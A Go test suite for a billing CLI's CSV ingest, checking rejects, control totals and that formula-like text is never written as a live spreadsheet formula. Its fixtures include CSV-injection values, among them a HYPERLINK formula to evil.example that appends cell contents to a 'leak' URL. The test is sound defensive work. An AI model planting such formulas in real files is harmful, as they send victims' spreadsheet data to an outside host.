package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"cspbill/ledger"
	"cspbill/ledger/ledgertest"

	"github.com/xuri/excelize/v2"
)

// The malformed-input tests run the real binary's ingest on each folder of
// fixtures/malformed/ (with the valid reference files of
// fixtures/malformed/ref when the case needs them) and check what an
// operator sees: the exit code (3 or 0, never 1: bad input is data, not a
// failure), the per-file control totals (read = accepted + rejected), and a
// reject naming file and line for each bad row, with its wording pinned.

const malformed = "../../fixtures/malformed"

// fileLine matches one file's line of the ingest summary.
var fileLine = regexp.MustCompile(`(?m)^  (\S+)\s+read (\d+) = accepted (\d+) \+ rejected (\d+) \(held (\d+)\)$`)

type counts struct{ read, accepted, rejected, held int }

// summaryCounts reads the per-file counts of an ingest summary, checking
// read = accepted + rejected on each.
func summaryCounts(t *testing.T, stdout string) map[string]counts {
	t.Helper()
	m := map[string]counts{}
	for _, g := range fileLine.FindAllStringSubmatch(stdout, -1) {
		var c counts
		for i, p := range []*int{&c.read, &c.accepted, &c.rejected, &c.held} {
			*p, _ = strconv.Atoi(g[i+2])
		}
		if c.read != c.accepted+c.rejected {
			t.Errorf("%s: read %d != accepted %d + rejected %d", g[1], c.read, c.accepted, c.rejected)
		}
		m[g[1]] = c
	}
	return m
}

// rejectsOf lists a ledger's rejected and held records as
// "file:line RULE message".
func rejectsOf(t *testing.T, url string) []string {
	t.Helper()
	ctx := context.Background()
	l, err := ledger.Open(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var out []string
	for _, st := range []string{ledger.Rejected, ledger.Held} {
		for r, err := range l.Records(ctx, ledger.RecordFilter{Status: st}) {
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, fmt.Sprintf("%s:%d %s %s", r.File, r.Line, r.Rule, r.Message))
		}
	}
	return out
}

// recordsOf counts a ledger's source records per file.
func recordsOf(t *testing.T, url string) map[string]int {
	t.Helper()
	ctx := context.Background()
	l, err := ledger.Open(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	m := map[string]int{}
	for r, err := range l.Records(ctx, ledger.RecordFilter{}) {
		if err != nil {
			t.Fatal(err)
		}
		m[r.File]++
	}
	return m
}

func copyDir(t *testing.T, from, to string) {
	t.Helper()
	entries, err := os.ReadDir(from)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() || e.Name() == "README.md" {
			continue
		}
		b, err := os.ReadFile(filepath.Join(from, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(to, e.Name()), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

type malformedCase struct {
	dir  string
	ref  bool // ingest with fixtures/malformed/ref's customers, catalog and taxes
	code int
	// files: the summary's counts per file of the case.
	files map[string]counts
	// whole: files rejected whole, with the summary's message.
	whole map[string]string
	// rejects: "file:line RULE message" prefixes that must be among the
	// ledger's rejected or held records (the wording an operator reads).
	rejects []string
	// formulas: close the month and check no text cell of the files can
	// run as a spreadsheet formula.
	formulas bool
}

var malformedCases = []malformedCase{
	{dir: "not-utf8", code: 3,
		whole:   map[string]string{"customers.csv": `customers.csv:2: not valid UTF-8 in field name; save the file as "CSV UTF-8"`},
		rejects: []string{`customers.csv:2 FILE file rejected whole, nothing loaded: customers.csv:2: not valid UTF-8 in field name`}},
	{dir: "ragged", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {4, 2, 2, 0}},
		rejects: []string{
			"orders.csv:3 CSV orders.csv:3: wrong number of fields: 5, the header has 10",
			"orders.csv:4 CSV orders.csv:4: wrong number of fields: 12, the header has 10",
		}},
	{dir: "formula", ref: true, code: 0, formulas: true,
		files: map[string]counts{"customers-formula.csv": {4, 4, 0, 0}, "orders-formula.csv": {4, 4, 0, 0}}},
	{dir: "quantity", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {6, 1, 5, 0}},
		rejects: []string{
			`orders.csv:2 V6 quantity "0" is not a positive whole number`,
			`orders.csv:3 V6 quantity "-3" is not a positive whole number`,
			`orders.csv:4 V6 quantity "1.5" is not a positive whole number`,
			`orders.csv:5 V6 quantity "1e3" is not a positive whole number`,
			`orders.csv:6 V6 quantity "" is not a positive whole number`,
		}},
	{dir: "dates", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {5, 1, 4, 0}},
		rejects: []string{
			`orders.csv:2 V1 order_date "2026-02-30" is not an RFC 3339 timestamp or YYYY-MM-DD`,
			`orders.csv:3 V1 order_date "2026-13-01" is not an RFC 3339 timestamp or YYYY-MM-DD`,
			`orders.csv:4 V1 order_date "2026-10-05T25:00:00Z" is not an RFC 3339 timestamp or YYYY-MM-DD`,
			`orders.csv:5 V1 order_date "05/10/2026" is not an RFC 3339 timestamp or YYYY-MM-DD`,
		}},
	{dir: "unknown-ids", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {3, 1, 2, 0}, "cancellations.csv": {1, 1, 0, 1}, "renewals.csv": {2, 1, 1, 0}},
		rejects: []string{
			`orders.csv:2 V1 unknown customer "C999": no accepted customers row has this customer_id`,
			`orders.csv:3 V1 unknown SKU "NO-SUCH-SKU": the catalog has no row for it`,
			`renewals.csv:2 V1 unknown subscription "S-NOPE": no accepted order line has this subscription_id`,
			`cancellations.csv:2 K6 cancellation pending: order line O-NOPE/1 has not been accepted yet`,
		}},
	{dir: "repeated-key", ref: true, code: 3,
		files:   map[string]counts{"orders.csv": {4, 3, 1, 0}},
		rejects: []string{`orders.csv:4 V6 order line O-R1/1 (order_id O-R1, line_no 1) differs from the one already accepted at orders.csv:2`}},
	{dir: "empty", code: 3,
		whole:   map[string]string{"orders.csv": "orders.csv: empty file (no header row)"},
		rejects: []string{`orders.csv:0 FILE file rejected whole, nothing loaded: orders.csv: empty file (no header row)`}},
	{dir: "headers-only", code: 0,
		files: map[string]counts{"orders.csv": {0, 0, 0, 0}}},
	{dir: "bom-crlf", ref: true, code: 0,
		files: map[string]counts{"orders.csv": {2, 2, 0, 0}}},
	{dir: "quoted-newline", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {3, 2, 1, 0}},
		// The quoted newline makes O-N1 span lines 2-3: O-N2 is physical line 4.
		rejects: []string{`orders.csv:4 CSV orders.csv:4: wrong number of fields: 7, the header has 11`}},
	{dir: "bad-quote", ref: true, code: 3,
		files: map[string]counts{"orders.csv": {3, 1, 2, 0}},
		rejects: []string{
			`orders.csv:3 CSV orders.csv:3: bad quoting: column 41: bare " in non-quoted-field`,
			`orders.csv:4 CSV orders.csv:4: bad quoting: column 69: extraneous or missing " in quoted-field`,
		}},
}

func TestMalformed_EachFileOfTheCorpus(t *testing.T) {
	tried := map[string]bool{}
	for _, c := range malformedCases {
		tried[c.dir] = true
		t.Run(c.dir, func(t *testing.T) {
			inbox := t.TempDir()
			if c.ref {
				copyDir(t, filepath.Join(malformed, "ref"), inbox)
			}
			copyDir(t, filepath.Join(malformed, c.dir), inbox)
			checkMalformed(t, c, inbox)
		})
	}
	// Every folder of the corpus has a case.
	entries, err := os.ReadDir(malformed)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() && e.Name() != "ref" && !tried[e.Name()] {
			t.Errorf("fixtures/malformed/%s has no case in malformedCases", e.Name())
		}
	}
}

func checkMalformed(t *testing.T, c malformedCase, inbox string) {
	t.Helper()
	url := ledgertest.SQLite(t)
	r := cspbill(t, nil, "ingest", "--inbox", inbox, "--db="+url)
	if r.code != c.code {
		t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, c.code, r.stdout, r.stderr)
	}
	got := summaryCounts(t, r.stdout)
	for name, want := range c.files {
		if got[name] != want {
			t.Errorf("%s: read %d = accepted %d + rejected %d (held %d), want %+v\n%s", name,
				got[name].read, got[name].accepted, got[name].rejected, got[name].held, want, r.stdout)
		}
	}
	rejects := rejectsOf(t, url)
	records := recordsOf(t, url)
	for name, msg := range c.whole {
		if want := fmt.Sprintf("  %-32s REJECTED WHOLE: %s\n", name, msg); !strings.Contains(r.stdout, want) {
			t.Errorf("summary lacks %q:\n%s", want, r.stdout)
		}
		// Nothing of it is loaded: its one record is the FILE reject.
		if records[name] != 1 {
			t.Errorf("%s was rejected whole but %d records of it are in the ledger", name, records[name])
		}
	}
	// Every reject of the case's files names its file and line, and the
	// ledger holds as many as the summary says.
	perFile := map[string]int{}
	for _, rej := range rejects {
		file, rest, _ := strings.Cut(rej, ":")
		line, _, _ := strings.Cut(rest, " ")
		if n, err := strconv.Atoi(line); err != nil || n < 0 || (n == 0 && !strings.Contains(rej, " FILE ")) {
			t.Errorf("reject without a line: %s", rej)
		}
		if !strings.Contains(rej, " held: ") && !strings.HasPrefix(strings.SplitN(rej, " ", 3)[1], "K6") {
			perFile[file]++
		}
	}
	for name, want := range c.files {
		if perFile[name] != want.rejected {
			t.Errorf("%s: the ledger holds %d rejects, the summary says %d:\n%s", name, perFile[name], want.rejected, strings.Join(rejects, "\n"))
		}
		if records[name] != want.read {
			t.Errorf("%s: the ledger holds %d records, the summary read %d", name, records[name], want.read)
		}
	}
	for _, want := range c.rejects {
		found := false
		for _, rej := range rejects {
			found = found || strings.HasPrefix(rej, want)
		}
		if !found {
			t.Errorf("no reject %q among:\n%s", want, strings.Join(rejects, "\n"))
		}
	}
	t.Logf("rejects:\n%s", strings.Join(rejects, "\n"))
	if c.formulas {
		checkNoFormulas(t, url)
	}
}

// checkNoFormulas closes October and reads every file the close writes.
// The CSV files keep each value as it was read: an order id or a name that
// starts with =, +, - or @ is written as it is (they are the contract other
// tools read), amounts keep their minus sign. In every workbook such a text
// is a string cell with no formula: the SPEC's "written as text, never as a
// formula".
func checkNoFormulas(t *testing.T, url string) {
	t.Helper()
	out := t.TempDir()
	r := cspbill(t, nil, "close", "--period", "2026-10", "--bill-from", "2026-10", "--per-customer", "--out", out, "--db="+url)
	if r.code != 0 && r.code != 3 {
		t.Fatalf("close: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	amount := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	lines, _ := os.ReadFile(filepath.Join(out, "2026-10", "invoice-lines.csv"))
	if !bytes.Contains(lines, []byte(`,USD,new,"=HYPERLINK(""http://evil.example"",""x"")",1,`)) {
		t.Errorf("invoice-lines.csv lacks the order id as it was read:\n%s", lines)
	}
	invoices, _ := os.ReadFile(filepath.Join(out, "2026-10", "invoices.csv"))
	for _, name := range []string{`"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your invoice"")"`, ",+1 Cloud Inc,", ",@SUM(A1:A9) Ltd,", ",-2+3 GmbH,"} {
		if !bytes.Contains(invoices, []byte(name)) {
			t.Errorf("invoices.csv lacks the customer name %s as it was read:\n%s", name, invoices)
		}
	}
	texts := 0
	err := filepath.WalkDir(out, func(p string, e os.DirEntry, err error) error {
		if err != nil || e.IsDir() || !strings.HasSuffix(p, ".xlsx") {
			return err
		}
		f, err := excelize.OpenFile(p)
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		defer f.Close()
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil {
				return fmt.Errorf("%s %s: %w", p, sheet, err)
			}
			for i, row := range rows {
				for j, v := range row {
					if v == "" || !strings.ContainsAny(v[:1], "=+-@\t\r") || amount.MatchString(v) {
						continue
					}
					ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
					formula, _ := f.GetCellFormula(sheet, ref)
					typ, _ := f.GetCellType(sheet, ref)
					if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
						t.Errorf("%s %s!%s %q: type %v formula %q, want a string cell", p, sheet, ref, v, typ, formula)
					}
					texts++
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	// Names of C201..C204 and order ids of three lines, in invoices.xlsx
	// and the per-customer workbooks.
	if texts < 14 {
		t.Errorf("only %d formula-looking texts in the close's workbooks", texts)
	}
}

// TestMalformed_TenMegabyteField: one field of 10 MB rejects its row (and
// only it) without loading the value, and names file, line and field.
func TestMalformed_TenMegabyteField(t *testing.T) {
	inbox := t.TempDir()
	copyDir(t, filepath.Join(malformed, "ref"), inbox)
	var b bytes.Buffer
	b.WriteString("order_id,line_no,order_date,customer_id,sku_id,term,billing_plan,quantity,subscription_id,auto_renew,notes\n")
	b.WriteString("O-H1,1,2026-10-05T14:00:00Z,C001,WS2022-STD-PERP,none,one_time,1,,,short\n")
	b.WriteString("O-H2,1,2026-10-05T14:00:00Z,C001,WS2022-STD-PERP,none,one_time,1,,,\"")
	b.Write(bytes.Repeat([]byte("0123456789"), 1<<20))
	b.WriteString("\"\n")
	b.WriteString("O-H3,1,2026-10-05T14:00:00Z,C002,WS2022-STD-PERP,none,one_time,1,,,short\n")
	if err := os.WriteFile(filepath.Join(inbox, "orders.csv"), b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	c := malformedCase{dir: "10MB", ref: true, code: 3, files: map[string]counts{"orders.csv": {3, 2, 1, 0}},
		rejects: []string{`orders.csv:3 CSV orders.csv:3: field notes: value "0123456789012345678901234567890123456789…": field too long: 10485760 bytes, the limit is 65536`}}
	checkMalformed(t, c, inbox)
}
